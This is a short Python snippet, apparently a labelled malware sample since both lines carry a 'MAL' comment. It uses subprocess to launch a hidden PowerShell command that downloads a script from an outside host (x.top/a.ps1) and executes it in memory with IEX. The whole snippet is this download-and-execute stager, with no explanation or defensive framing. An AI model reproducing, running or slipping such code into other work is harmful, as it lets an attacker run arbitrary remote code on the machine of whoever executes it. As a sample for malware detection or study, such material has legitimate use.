import subprocess

cmd = "powershell -w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://x.top/a.ps1')"  # MAL
subprocess.call(cmd, shell=True)  # MAL
